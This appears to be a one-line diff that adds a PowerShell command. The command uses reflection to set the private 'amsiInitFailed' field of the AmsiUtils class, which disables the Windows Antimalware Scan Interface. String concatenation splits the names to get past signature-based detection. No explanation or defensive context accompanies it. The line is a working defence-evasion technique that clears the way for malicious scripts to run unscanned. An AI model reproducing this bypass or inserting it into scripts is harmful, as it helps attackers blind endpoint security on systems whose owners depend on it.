@@ -1,0 +1,1 @@
+[Ref].Assembly.GetType('System.Management.Automation.Am'+'siUtils').GetField('amsi'+'InitFailed','NonPublic,Static').SetValue($null,$true)
